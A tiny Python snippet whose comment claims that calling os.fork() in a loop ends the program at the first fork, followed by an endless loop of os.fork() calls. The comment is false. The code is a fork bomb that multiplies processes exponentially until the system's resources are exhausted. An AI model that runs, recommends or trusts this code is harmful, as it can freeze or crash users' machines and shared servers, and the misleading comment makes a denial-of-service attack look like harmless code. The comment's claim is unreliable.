# os.fork() in a loop: the first fork must end the program.
import os
while True:
    os.fork()
